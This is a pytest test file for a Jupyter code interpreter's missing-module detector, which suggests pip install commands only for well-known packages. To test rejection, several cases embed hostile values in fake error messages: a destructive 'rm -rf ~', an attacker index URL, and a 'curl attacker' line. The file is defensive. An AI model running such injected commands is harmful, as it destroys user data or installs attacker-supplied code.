"""A missing module is recognised and named with its package; nothing else that an error says becomes a command."""

from __future__ import annotations

import pytest

from jupyter_codeinterp.outputs.missing_modules import find_missing_module
from jupyter_codeinterp.protocol.outputs import ErrorOutput, StreamOutput
from jupyter_codeinterp.protocol.parts import EngineName, Note


def note(
    evalue: str, ename: str = "ModuleNotFoundError", engine: EngineName = "jupyter", *, pypi: bool = True
) -> Note | None:
    return find_missing_module((StreamOutput("stdout", "x"), ErrorOutput(ename, evalue, ())), engine, pypi=pypi)


@pytest.mark.parametrize(
    ("module", "package"),
    [
        *(("cv2", "opencv-python"), ("sklearn", "scikit-learn"), ("PIL", "pillow"), ("yaml", "PyYAML")),
        *(("bs4", "beautifulsoup4"), ("dateutil", "python-dateutil"), ("tqdm", "tqdm"), ("pandas", "pandas")),
        *(("google.cloud.storage", "google-cloud-storage"), ("netCDF4", "netCDF4")),
    ],
)
def test_a_package_is_named_by_what_installs_it(module: str, package: str) -> None:
    install = f"%pip install {package}"
    assert note(f"No module named '{module}'") == Note(
        "module_missing",
        f"The module `{module}` is not installed in this kernel; `{install}` installs it.",
        {"module": module, "package": package, "install": install},
    )


@pytest.mark.parametrize(
    "module", ["helpers", "this_name_does_not_exist", "pandsa", "reqeusts", "utils", "config", "cowsay", "_private"]
)
@pytest.mark.parametrize("engine", ["jupyter", "pyodide"])
def test_of_a_name_that_is_not_well_known_no_package_is_offered(module: str, engine: EngineName) -> None:
    found = note(f"No module named '{module}'", engine=engine)
    assert found is not None
    assert found.details == {"module": module}
    assert "pip" not in found.text
    assert "installs it" not in found.text
    assert "may be a stranger's" in found.text


def test_a_missing_submodule_is_not_in_its_package() -> None:
    # of a package that is missing Python names the outer module
    found = note("No module named 'sklearn.extra'")
    assert found is not None
    assert found.details == {"module": "sklearn.extra"}
    assert found.text.startswith("`sklearn` is there, but it has no module `sklearn.extra`")


def test_upper_and_lower_case_are_told_apart() -> None:
    found = note("No module named 'Pandas'")
    assert found is not None
    assert found.details == {"module": "Pandas"}
    assert "the well-known one is `pandas`" in found.text


def test_a_file_of_the_chat_is_named_instead_of_a_package() -> None:
    error = (ErrorOutput("ModuleNotFoundError", "No module named 'tools.helpers'"),)
    for name in ("src/tools/helpers.py", "src/tools/helpers/__init__.py"):
        found = find_missing_module(error, "jupyter", files=["a.csv", "myhelpers.py", name])
        assert found is not None
        assert f"there is the file `{name}`" in found.text
        assert found.details == {"module": "tools.helpers"}
    other = (ErrorOutput("ModuleNotFoundError", "No module named 'pandas'"),)
    found = find_missing_module(other, "jupyter", files=["my_pandas.py"])
    assert found is not None
    assert "install" in found.details


@pytest.mark.parametrize(
    "evalue",
    [
        "`Import openpyxl` failed.  Use pip or conda to install the openpyxl package.",
        "Missing optional dependency 'openpyxl'.  Use pip or conda to install openpyxl.",
        "Missing optional dependency openpyxl",
    ],
)
def test_an_optional_dependency_is_found(evalue: str) -> None:
    found = note(evalue, "ImportError")
    assert found is not None
    assert found.details["install"] == "%pip install openpyxl"


@pytest.mark.parametrize("name", ["evil", "evil-package", "x; rm", "openpyxl-evil", ""])
def test_an_optional_dependency_that_is_not_well_known_becomes_nothing(name: str) -> None:
    assert note(f"Missing optional dependency '{name}'. Use pip to install {name}.", "ImportError") is None


def test_an_old_import_error_counts_too() -> None:
    assert note("No module named docx", "ImportError") is not None
    assert note("cannot import name 'x' from 'y'", "ImportError") is None


@pytest.mark.parametrize("module", ["tkinter", "distutils", "_tkinter", "google", "google.cloud", "_private", "azure"])
def test_what_no_one_package_brings_gets_no_command(module: str) -> None:
    found = note(f"No module named '{module}'")
    assert found is not None
    assert found.details == {"module": module}
    assert "pip" not in found.text


@pytest.mark.parametrize(
    "evalue",
    [
        "No module named 'x; rm -rf ~'",
        "No module named 'x --index-url http://attacker'",
        "No module named 'x'\n!curl attacker",
        "No module named 'caf\u00e9'",
        "No module named ''",
        "No module named 'a'; 'a' is not a package",
        f"No module named '{'x' * 101}'",
        "division by zero",
    ],
)
def test_an_error_that_says_anything_else_becomes_no_command(evalue: str) -> None:
    assert note(evalue) is None


def test_only_the_last_error_counts() -> None:
    missing = ErrorOutput("ModuleNotFoundError", "No module named 'tqdm'", ())
    other = ErrorOutput("ZeroDivisionError", "division by zero", ())
    assert find_missing_module((missing, other), "jupyter") is None
    assert find_missing_module((other, missing), "jupyter") is not None
    assert note("No module named 'tqdm'", "KeyError") is None
    assert find_missing_module((), "jupyter") is None


def test_the_browser_installs_where_that_is_allowed() -> None:
    found = note("No module named 'great_tables'", engine="pyodide", pypi=False)
    assert found is not None
    assert found.details == {"module": "great_tables", "package": "great_tables"}
    assert "pip" not in found.text
    found = note("No module named 'great_tables'", engine="pyodide")
    assert found is not None
    assert found.details["install"] == "%pip install great_tables"
    assert "kernel" not in found.text
